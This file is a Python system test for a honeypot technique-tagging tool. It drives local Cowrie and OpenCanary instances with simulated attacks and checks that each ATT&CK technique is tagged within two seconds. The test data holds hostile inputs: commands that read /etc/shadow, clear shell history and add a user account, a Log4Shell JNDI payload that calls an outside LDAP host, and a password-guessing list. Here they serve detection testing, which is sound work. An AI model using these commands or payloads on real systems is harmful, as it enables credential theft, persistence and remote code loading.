# SPDX-License-Identifier: AGPL-3.0-or-later
"""A real Cowrie and a real OpenCanary under attack, followed live: seen while it happens."""

from __future__ import annotations

import asyncio
import http.client
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import ExitStack, asynccontextmanager
from pathlib import Path

import orjson
import pytest
from benchmarks.installation import Installation
from examples.honeypots import (
    COWRIE_BIN,
    free_ports,
    running_cowrie,
    running_opencanary,
    unprivileged,
)

from decnet_ttp.core.errors import NotFoundError
from decnet_ttp.embedded.layout import load_instance
from decnet_ttp.runtime.clients import open_channel
from decnet_ttp.runtime.config import Settings
from decnet_ttp.v1.rollup_service_pb2 import ListTechniquesRequest
from decnet_ttp.v1.rollup_service_pb2_grpc import RollupServiceStub
from decnet_ttp.v1.scope_pb2 import Scope
from system.stalls import Stalls, watching

pytestmark = [pytest.mark.system, pytest.mark.timeout(900)]

ROOT = Path(__file__).resolve().parents[2]
TYPIST = ROOT / "examples" / "ssh_typist.py"

PERSON = "127.0.0.71"
GUESSER = "127.0.0.72"
SCANNER = "127.0.0.73"
KNOCK = "127.0.0.79"

VISIBLE_WITHIN_S = 2.0
#: What a person types, and a technique that nothing before it shows.
TYPED = (
    ("uname -a", "T1082"),
    ("netstat -tlnp", "T1049"),
    ("cat /etc/shadow", "T1003.008"),
    ("history -c", "T1070.003"),
    # Last, since it asks for a password, and what is typed then is no command.
    ("useradd -m support", "T1136.001"),
)
#: As whom a scanner asks for a page, likewise.
ASKED = (
    ("${jndi:ldap://198.51.100.23/a}", "T1190"),
    ("Mozilla/5.0 (compatible; Nikto/2.5.0)", "T1595.002"),
)
#: Enough guesses for a brute force.
GUESSES = ("123456", "password", "admin", "root", "qwerty", "letmein", "raspberry", "toor1")

Typist = Callable[..., subprocess.Popen[str]]
VisibleAfter = Callable[[str, str, float], Awaitable[float]]


@pytest.fixture(scope="module")
def honeypots() -> None:
    """Both honeypots, installed from locks; made once and kept in .tools."""
    try:
        subprocess.run(
            [ROOT / "dev", "honeypots"], capture_output=True, text=True, timeout=150, check=True
        )
    except subprocess.TimeoutExpired:
        pytest.skip("the honeypots cannot be installed here: it takes too long")
    except subprocess.CalledProcessError as error:
        last = error.stderr.strip().splitlines()[-1:] or ["no word of why"]
        pytest.skip(f"the honeypots cannot be installed here: {last[0]}")
    if subprocess.run(unprivileged("true"), capture_output=True, check=False).returncode:
        pytest.skip("Cowrie refuses root, and root may make no user namespace here")


@pytest.fixture
def stalls(tmp_path: Path) -> Iterator[Stalls]:
    """When the machine stands still during the test."""
    with watching(tmp_path) as found:
        yield found


@pytest.fixture
def typist() -> Iterator[Typist]:
    """Starts SSH clients of attackers, and ends those that are left."""
    with ExitStack() as stack:

        def start(port: int, source: str, *login: str) -> subprocess.Popen[str]:
            process = stack.enter_context(
                subprocess.Popen(
                    [COWRIE_BIN / "python", TYPIST, str(port), source, *login],
                    stdin=subprocess.PIPE,
                    stdout=subprocess.PIPE,
                    text=True,
                )
            )
            stack.callback(process.kill)
            return process

        yield start


def typed(client: subprocess.Popen[str], line: str) -> float:
    """Type a line; returns when it went out, in seconds since the epoch."""
    assert client.stdin is not None
    assert client.stdout is not None
    client.stdin.write(f"{line}\n")
    client.stdin.flush()
    return float(client.stdout.readline())


@asynccontextmanager
async def techniques_of(installation: Installation, stalls: Stalls) -> AsyncIterator[VisibleAfter]:
    """Ask what `decnet-ttp techniques --ip` asks, over one open channel.

    Times during which the machine stood still do not count.
    """
    target = load_instance(installation.data_dir).tag_store
    async with open_channel(target, Settings()) as channel:
        stub = RollupServiceStub(channel)

        async def seen(ip: str) -> set[str]:
            request = ListTechniquesRequest(scope=Scope(attacker_ip=ip))
            try:
                rows = (await stub.ListTechniques(request)).techniques
            except NotFoundError:
                return set()  # Nothing of that address was tagged yet.
            return {row.sub_technique_id or row.technique_id for row in rows}

        async def visible_after(ip: str, technique: str, since: float) -> float:
            async with asyncio.timeout(60):
                while technique not in await seen(ip):
                    await asyncio.sleep(0.02)
            now = time.time()
            return now - since - stalls.within(since, now)

        yield visible_after


def asked(port: int, agent: str) -> float:
    """Ask a web server as a scanner does; returns when, in seconds since the epoch."""
    client = http.client.HTTPConnection("127.0.0.1", port, 60, source_address=(SCANNER, 0))
    since = time.time()
    client.request("GET", "/index.html", headers={"User-Agent": agent})
    client.getresponse().read()
    client.close()
    return since


async def ended(log: Path, cursors: Path) -> None:
    """Wait until the log has the end of the person's session, and the bus all of the log.

    A follower waits a while for late lines before it publishes a session that is over.
    """

    def is_published() -> bool:
        content = log.read_bytes()
        closed = any(
            line.count(b"session.closed") and line.count(PERSON.encode())
            for line in content.splitlines()
        )
        reached = [orjson.loads(file.read_bytes())["logs"] for file in cursors.glob("*.json")]
        return closed and [logs[str(log)]["offset"] for logs in reached] == [len(content)]

    async with asyncio.timeout(120):
        while not await asyncio.to_thread(is_published):
            await asyncio.sleep(0.05)


def judge(took: dict[str, float]) -> None:
    """Hold every delay against the promise, and show them."""
    sys.stdout.write(
        "".join(f"{what}: visible after {delay:.2f} s\n" for what, delay in took.items())
    )
    assert {what for what, delay in took.items() if delay > VISIBLE_WITHIN_S} == set()


@asynccontextmanager
async def following(
    installation: Installation, stalls: Stalls, adapter: str, log: Path
) -> AsyncIterator[VisibleAfter]:
    """Follow a log as a user does; gives the way to wait for a technique of an address."""
    follower = installation.start("import", adapter, log, "--follow")
    try:
        async with techniques_of(installation, stalls) as visible_after:
            # Once what stood in the log is read, the cursor says so.
            async with asyncio.timeout(60):
                while not [*(installation.data_dir / "cursors").glob("*.json")]:
                    await asyncio.sleep(0.05)
            yield visible_after
    finally:
        follower.terminate()
        assert await asyncio.to_thread(follower.wait, 120) == 0


async def test_commands_show_their_techniques_while_the_session_goes_on(
    tmp_path: Path, honeypots: None, installation: Installation, typist: Typist, stalls: Stalls
) -> None:
    """Each is visible within two seconds of being typed; the session's end announces none anew."""
    folder = tmp_path / "cowrie"
    folder.mkdir()
    port = free_ports(1)[0]
    took: dict[str, float] = {}
    with running_cowrie(folder, port, {"root": "toor"}, knock_from=KNOCK) as log:
        async with following(installation, stalls, "cowrie", log.parent) as visible_after:
            client = typist(port, PERSON, "root", "toor")
            for line, technique in TYPED:
                since = await asyncio.to_thread(typed, client, line)
                took[line] = await visible_after(PERSON, technique, since)
            open_session = installation.json("tags", "--limit", "0")
            client.communicate()
            await ended(log, installation.data_dir / "cursors")
            await installation.settle()
    judge(took)
    after = {tag["uuid"]: tag for tag in installation.json("tags", "--limit", "0")}
    assert {tag["uuid"] for tag in open_session} <= set(after)
    shown = {tag["sub_technique_id"] or tag["technique_id"] for tag in after.values()}
    assert {technique for _, technique in TYPED} <= shown
    commands = [tag["source_id"] for tag in after.values() if tag["source_kind"] == "command"]
    assert len(set(commands)) == len(TYPED)
    assert await installation.announced_tags() == dict.fromkeys(after, 1)


async def test_guesses_and_requests_show_their_techniques_at_once(
    tmp_path: Path, honeypots: None, installation: Installation, typist: Typist, stalls: Stalls
) -> None:
    """OpenCanary over HTTP and SSH."""
    folder = tmp_path / "opencanary"
    folder.mkdir()
    ports = dict(zip(("http", "ssh"), free_ports(2), strict=True))
    took: dict[str, float] = {}
    with running_opencanary(folder, ports, knock_from=KNOCK) as log:
        async with following(installation, stalls, "opencanary", log) as visible_after:
            for agent, technique in ASKED:
                since = await asyncio.to_thread(asked, ports["http"], agent)
                took[agent] = await visible_after(SCANNER, technique, since)
            client = typist(ports["ssh"], GUESSER, "root", *GUESSES)
            since = float((await asyncio.to_thread(client.communicate))[0])
            took["guesses"] = await visible_after(GUESSER, "T1110.001", since)
    judge(took)
